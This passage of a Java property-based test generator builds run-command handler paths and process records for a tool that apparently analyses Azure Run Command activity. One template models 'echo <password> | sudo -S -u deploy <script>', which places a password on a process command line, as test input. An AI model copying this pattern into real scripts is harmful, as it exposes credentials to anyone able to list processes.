     * The managed handler's script folders (an inline script, a {@code scriptUri}'s file, unnamed parameters in the
     * same argument, RunAs), and paths that almost are them: the folder only further in, another subfolder, another
     * case, a user of no segment or of two, a home that is not under {@code /home/}.
     */
    private static Arbitrary<String> handlerPaths() {
        return Arbitraries.frequency(
                Tuple.of(6, HANDLER + "download/rc-managed/0/script.sh"),
                Tuple.of(2, HANDLER + "download/rc-managed/12/install-agent.sh"),
                Tuple.of(2, HANDLER + "immediateDownload/rc-now/0/script.sh"),
                Tuple.of(1, HANDLER + "download/rc-managed/0/script.sh --force 7"),
                Tuple.of(1, HANDLER + "download/"),
                Tuple.of(2, RUNAS + "download/rc-runas/0/script.sh"),
                Tuple.of(1, RUNAS + "immediateDownload/rc-runas/1/script.sh"),
                Tuple.of(1, "/opt/backup" + HANDLER + "download/rc-managed/0/script.sh"),
                Tuple.of(1, HANDLER + "downloads/rc-managed/0/script.sh"),
                Tuple.of(1, "/var/lib/waagent/Run-Command-Handler/download/rc-managed/0/script.sh"),
                Tuple.of(1, HANDLER + "download"),
                Tuple.of(1, "/home//waagent/run-command-handler-runas/download/rc-runas/0/script.sh"),
                Tuple.of(1, "/home/deploy/tmp/waagent/run-command-handler-runas/download/rc-runas/0/script.sh"),
                Tuple.of(1, "/root/waagent/run-command-handler-runas/download/rc-runas/0/script.sh"));
    }

    /**
     * The RunAs handler's {@code bash -c "echo <password> | sudo -S -u deploy <script>"} and the {@code sudo} it
     * starts: a script child when the endpoint split the parent's line into words (the script's path is then an
     * argument of its own), none when it kept the {@code -c} string whole. Either way the password is on the parent's
     * command line.
     */
    private static Arbitrary<Template> runAsTemplate() {
        String script = RUNAS + "download/rc-runas/0/script.sh";
        String line = "echo " + RUNAS_PASSWORD + " | sudo -S -u deploy " + script;
        Arbitrary<List<String>> args = Arbitraries.of(
                List.of("/bin/bash", "-c", line),
                List.of("/bin/bash", "-c", "echo", RUNAS_PASSWORD, "|", "sudo", "-S", "-u", "deploy", script));
        Arbitrary<ProcessShape> shape =
                Arbitraries.frequency(Tuple.of(5, ProcessShape.DEFEND), Tuple.of(1, ProcessShape.DEFEND_DOTTED));
        return Combinators.combine(shape, args)
                .as((s, parentArgs) -> new Template(
                        s,
                        "exec",
                        List.of("start"),
                        "sudo",
                        "sudo -S -u deploy " + script,
                        "bash",
                        "/bin/bash -c " + line,
                        parentArgs));
    }

    // ---- ties -----------------------------------------------------------------------------------------------------

    /**
     * The scenario without the ties docs/choices.md names no rule for: the records of an invocation agree on the caller,
     * and those at its earliest millisecond on the spelling of its id; invocations without id on one machine are a
     * millisecond apart at least. (A machine named by name alone is named in one spelling, see {@link #invocation}.)
     */
    static Scenario withDefinedTies(Scenario scenario) {
        List<ActivityRecord> records = new ArrayList<>(scenario.activity());
        Map<List<String>, Long> earliest = new HashMap<>();
        Map<List<String>, String> spelling = new HashMap<>();
        Map<List<String>, String> caller = new HashMap<>();
        for (ActivityRecord record : records) {
            if (record.correlationId() == null) {
                continue;
            }
            List<String> key = invocationKey(record);
            if (record.userEmail() != null) {
                caller.putIfAbsent(key, record.userEmail());
            }
            if (isRunCommandEvent(record) && record.at() < earliest.getOrDefault(key, Long.MAX_VALUE)) {
                earliest.put(key, record.at());
                spelling.put(key, record.correlationId());
            }
        }
        Map<String, Set<Long>> idlessTimes = new HashMap<>();
        for (int i = 0; i < records.size(); i++) {
            ActivityRecord record = records.get(i);
            if (record.correlationId() == null) {
                if (isRunCommandEvent(record)) {
                    Set<Long> taken = idlessTimes.computeIfAbsent(
                            ReferenceModel.machine(record).key(), host -> new HashSet<>());
                    long at = record.at();
                    while (!taken.add(at)) {
                        at++;
                    }
                    records.set(i, record.withAt(at));
                }
                continue;
            }
            List<String> key = invocationKey(record);
            String id = record.at() == earliest.getOrDefault(key, Long.MIN_VALUE)
                    ? spelling.get(key)
                    : record.correlationId();
            records.set(i, record.withCaller(id, record.userEmail() == null ? null : caller.get(key)));
        }
        return new Scenario(records, scenario.processes(), scenario.inventory());
    }

    /** Family, machine and correlation id: the records of one invocation. */
    private static List<String> invocationKey(ActivityRecord record) {
        return List.of(
                String.valueOf(Family.of(record.operation())),
                ReferenceModel.machine(record).key(),
                record.correlationId().toLowerCase(Locale.ROOT));
    }

    private static boolean isRunCommandEvent(ActivityRecord record) {
        return Family.of(record.operation()) != null && record.result() != Result.FAILURE;
    }
}
